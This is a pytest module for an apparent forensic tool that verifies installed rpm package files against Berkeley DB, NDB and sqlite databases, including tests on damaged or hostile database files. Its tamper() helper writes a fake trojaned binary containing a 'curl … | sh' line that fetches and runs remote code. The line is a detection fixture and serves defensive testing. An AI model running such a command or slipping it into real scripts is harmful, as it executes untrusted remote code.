"""``packages verify`` on rpm databases of every backend: Berkeley DB ``Packages``, NDB ``Packages.db``, sqlite.

The same three packages (:mod:`tests.integrity.rpmdb_tools`) installed on the
same root must give the same verdicts whichever database describes them.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

import breachkit.cli.main
from breachkit.integrity import findings, verify_packages
from breachkit.integrity.packages import bdb, rpm
from breachkit.sources import RootSource
from tests.hostile import snapshot, snapshot_diff
from tests.integrity.builders import write_rpmdb
from tests.integrity.rpmdb_tools import FIXTURES, INSTALLED, MTIME
from tests.integrity.test_bdb import PAGE, offpage_refs

DB_FILES = {
    "Berkeley DB": FIXTURES / "bdb-little/Packages",
    "Berkeley DB big-endian": FIXTURES / "bdb-big/Packages",
    "NDB": FIXTURES / "ndb/Packages.db",
}
#: What rpm -V says after :func:`tamper` (``-``: not recorded; rpm prints ``.`` there).
TAMPERED = {
    "/usr/bin/tinytool": ("changed", "S.5....T."),
    "/usr/sbin/suidtool": ("changed", ".M......."),
    "/usr/share/manyfiles/item-7.txt": ("missing", "missing"),
}


def installed_root(root: Path) -> Path:
    """The packages' files as rpm installed them, owned by whoever runs the test (named root in /etc/passwd)."""
    for path, (content, mode) in INSTALLED.items():
        target = root / path.lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, str):
            os.symlink(content, target)
            continue
        target.write_bytes(content)
        os.chmod(target, stat.S_IMODE(mode))
        os.utime(target, (MTIME, MTIME))
    (root / "etc/passwd").write_text(f"root:x:{os.getuid()}:{os.getgid()}:root:/root:/bin/sh\n")
    (root / "etc/group").write_text(f"root:x:{os.getgid()}:\n")
    return root


def place(root: Path, db_file: Path, folder: str = "var/lib/rpm") -> None:
    (root / folder).mkdir(parents=True, exist_ok=True)
    shutil.copy(db_file, root / folder / db_file.name)


def tamper(root: Path) -> None:
    """One file rewritten, one missing, one setuid bit dropped."""
    (root / "usr/bin/tinytool").write_bytes(b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")
    (root / "usr/share/manyfiles/item-7.txt").unlink()
    os.chmod(root / "usr/sbin/suidtool", 0o755)
    os.utime(root / "usr/sbin/suidtool", (MTIME, MTIME))


def verdicts(root: Path) -> dict[str, tuple[str, str]]:
    report = verify_packages(RootSource(str(root)), unowned=False)
    assert report.db_problems == []
    assert report.packages == 3 and report.files_checked == len(INSTALLED) + 1  # + the %ghost log
    return {r.expected.path: (r.status, r.flags.replace("-", ".")) for r in report.problems}


@pytest.mark.parametrize("backend", sorted(DB_FILES))
def test_verify_with_each_backend(tmp_path: Path, backend: str) -> None:
    root = installed_root(tmp_path / "root")
    place(root, DB_FILES[backend])
    assert verdicts(root) == {}
    tamper(root)
    before = snapshot(root)
    assert verdicts(root) == TAMPERED
    assert snapshot_diff(before, snapshot(root)) == []  # the evidence, database included, is untouched
    db = rpm.load(RootSource(str(root)))
    assert db is not None and db.manager == f"rpm ({backend.removesuffix(' big-endian')})"


def test_backends_agree_with_sqlite_of_the_same_headers(tmp_path: Path) -> None:
    """The blobs the Berkeley DB reader finds, put in an rpmdb.sqlite, give the same verdicts."""
    root = installed_root(tmp_path / "root")
    tamper(root)
    place(root, DB_FILES["Berkeley DB"])
    from_bdb = verdicts(root)
    blobs = [r.value for r in bdb.items(DB_FILES["Berkeley DB"].read_bytes()) if isinstance(r, bdb.Item) and any(r.key)]
    (root / "var/lib/rpm/Packages").unlink()
    write_rpmdb(root / "var/lib/rpm/rpmdb.sqlite", blobs)
    assert verdicts(root) == from_bdb == TAMPERED


def test_json_and_text_name_the_backend(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(breachkit.cli.main, "COMMAND_MODULES", ("breachkit.cli.packages",))
    root = installed_root(tmp_path / "root")
    place(root, DB_FILES["NDB"], "usr/lib/sysimage/rpm")
    tamper(root)
    cli: Callable[[list[str]], int] = breachkit.cli.main.main
    assert cli(["packages", "verify", "--root", str(root), "--no-unowned", "--format", "json"]) == 1
    data = json.loads(capsys.readouterr().out)
    assert data["managers"] == ["rpm (NDB)"]
    assert {p["path"] for p in data["problems"]} == set(TAMPERED)
    assert cli(["packages", "verify", "--root", str(root), "--no-unowned"]) == 1
    assert "rpm (NDB): 3 packages" in capsys.readouterr().out


def test_damaged_berkeley_db_still_verifies_the_rest(tmp_path: Path) -> None:
    """A header blob cut in its overflow chain: reported with its page, the other packages still verified."""
    data = bytearray(DB_FILES["Berkeley DB"].read_bytes())
    refs = {number: (at, first) for _page, number, at, first, _total in offpage_refs(bytes(data))}
    # manyfiles (instance 2): its header's overflow chain now starts at a page outside the file.
    data[refs[2][0] + 4 : refs[2][0] + 8] = (4242).to_bytes(4, "little")
    # tinytool (instance 3): an absurd index count in the first bytes of its header.
    data[refs[3][1] * PAGE + 26 : refs[3][1] * PAGE + 30] = b"\x7f\xff\xff\xff"
    root = installed_root(tmp_path / "root")
    (root / "var/lib/rpm").mkdir(parents=True)
    (root / "var/lib/rpm/Packages").write_bytes(bytes(data))
    report = verify_packages(RootSource(str(root)), unowned=False)
    details = [p.detail for p in report.db_problems]
    assert any("leaves the file at page 4242" in d for d in details), details
    assert any(d.startswith("package header 3 (page 2): index count") for d in details), details
    assert all(p.path == "/var/lib/rpm/Packages" for p in report.db_problems)
    assert report.packages == 1 and report.files_checked == 2  # suidtool and its %ghost log
    assert [f.check for f in findings(report)] == ["integrity.database-damaged"]


def test_a_package_number_seen_twice_is_read_once(tmp_path: Path) -> None:
    data = bytearray(DB_FILES["Berkeley DB"].read_bytes())
    # tinytool's key (instance 3, on page 2) rewritten to manyfiles' instance 2 (on page 1).
    (page,) = [p for p, number, _a, _f, _t in offpage_refs(bytes(data)) if number == 3]
    at = bytes(data).index(b"\x01\x03\0\0\0", page * PAGE, page * PAGE + PAGE)
    data[at + 1] = 2
    root = installed_root(tmp_path / "root")
    (root / "var/lib/rpm").mkdir(parents=True)
    (root / "var/lib/rpm/Packages").write_bytes(bytes(data))
    db = rpm.load(RootSource(str(root)))
    assert db is not None and sorted(p.name for p in db.packages) == ["manyfiles", "suidtool"]
    assert [(p.line, p.detail) for p in db.problems] == [
        (2, "page 2: package 2 appears again (first on page 1); this copy skipped")
    ]


def test_records_and_problems_are_capped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A hostile file cannot make unbounded records: past the caps, reading stops or problems are only counted."""
    root = installed_root(tmp_path / "root")
    place(root, DB_FILES["Berkeley DB"])
    monkeypatch.setattr(rpm, "MAX_PACKAGES", 2)
    db = rpm.load(RootSource(str(root)))
    assert db is not None and len(db.packages) == 2
    assert [p.detail for p in db.problems] == ["page 2: more than 2 package records; the rest is not read"]
    monkeypatch.setattr(rpm, "MAX_PROBLEMS", 3)
    for number in range(5):
        db.note(number, f"problem {number}")
    assert [p.detail for p in db.problems] == [db.problems[0].detail, "problem 0", "4 more problems not listed"]


def test_a_file_full_of_duplicates_is_cut_short(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Hash pages packed with the same tiny key/value pair: reading stops after a bounded number of records."""
    meta = bytearray(DB_FILES["Berkeley DB"].read_bytes()[:PAGE])
    meta[32:36] = (3).to_bytes(4, "little")  # last page
    pages = [bytes(meta)]
    for number in (1, 2, 3):
        page = bytearray(PAGE)
        offsets, top = [], PAGE
        while 26 + 2 * (len(offsets) + 2) < top - 7:
            top -= 5
            page[top : top + 5] = b"\x01\x07\0\0\0"  # key: instance 7
            offsets.append(top)
            top -= 2
            page[top : top + 2] = b"\x01A"
            offsets.append(top)
        page[8:12] = number.to_bytes(4, "little")
        page[20:22] = len(offsets).to_bytes(2, "little")
        page[25] = bdb.P_HASH
        page[26 : 26 + 2 * len(offsets)] = b"".join(o.to_bytes(2, "little") for o in offsets)
        pages.append(bytes(page))
    root = tmp_path / "root"
    (root / "var/lib/rpm").mkdir(parents=True)
    (root / "var/lib/rpm/Packages").write_bytes(b"".join(pages))
    monkeypatch.setattr(rpm, "MAX_PACKAGES", 100)
    db = rpm.load(RootSource(str(root)))
    assert db is not None and db.packages == []
    details = [p.detail for p in db.problems]
    # The first record is kept (and is no header), the next 399 are duplicates, then reading stops.
    assert all(d.endswith(": package 7 appears again (first on page 1); this copy skipped") for d in details[:399])
    assert details[399:] == [
        "more than 400 records (duplicates or damage); the rest is not read",
        "package header 7 (page 1): shorter than a header",
    ]


def test_format_preference_and_unreadable_files(tmp_path: Path) -> None:
    root = installed_root(tmp_path / "root")
    place(root, DB_FILES["Berkeley DB"])
    place(root, DB_FILES["NDB"])
    db = rpm.load(RootSource(str(root)))
    assert db is not None and db.backend == "NDB" and db.origin == "/var/lib/rpm/Packages.db"
    (root / "var/lib/rpm/Packages.db").write_bytes(b"\0" * 100)
    db = rpm.load(RootSource(str(root)))
    assert db is not None and db.packages == []
    assert db.problems[0].detail.startswith("not a readable rpm NDB database: not an rpm NDB database")
    (root / "var/lib/rpm/Packages.db").unlink()
    (root / "var/lib/rpm/Packages").write_bytes(b"\0" * 8192)
    db = rpm.load(RootSource(str(root)))
    assert db is not None and db.backend == "Berkeley DB"
    assert db.problems[0].detail.startswith("not a readable rpm Berkeley DB database: not a Berkeley DB hash database")


needs_tools = pytest.mark.skipif(
    shutil.which("rpmbuild") is None or shutil.which("db5.3_load") is None,
    reason="needs rpmbuild and db5.3_load (apt-get install rpm db5.3-util)",
)


@needs_tools
@pytest.mark.parametrize("byte_order", ["little", "big"])
def test_real_install_verified_from_berkeley_db_as_from_sqlite(tmp_path: Path, byte_order: str) -> None:
    """rpm installs the packages (files and rpmdb.sqlite); its blobs go into a Packages file made by db5.3_load."""
    from tests.integrity import rpmdb_tools

    packages = rpmdb_tools.build_rpms(tmp_path)
    root = tmp_path / "root"
    root.mkdir()
    sqlite_path = rpmdb_tools.install_sqlite(root, packages)
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/sh\n")
    (root / "etc/group").write_text("root:x:0:\n")
    tamper(root)
    from_sqlite = verdicts(root)
    blobs = rpmdb_tools.header_blobs(sqlite_path)
    for leftover in (root / "var/lib/rpm").iterdir():
        leftover.unlink()
    rpmdb_tools.write_bdb(blobs, root / "var/lib/rpm/Packages", byte_order)
    db = rpm.load(RootSource(str(root)))
    assert db is not None and db.backend == "Berkeley DB"
    assert verdicts(root) == from_sqlite
    if os.getuid() == 0:
        assert from_sqlite == TAMPERED
    # rpm itself, reading the same Packages file with its read-only Berkeley DB backend, agrees.
    done = subprocess.run(
        ["rpm", "--root", str(root), "--dbpath", "/var/lib/rpm", "--define", "_db_backend bdb_ro", "-Va", "--nodeps"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    theirs = {line.split()[-1]: line.split()[0] for line in done.stdout.splitlines()}
    assert {path: flags for path, (_status, flags) in from_sqlite.items()} == theirs
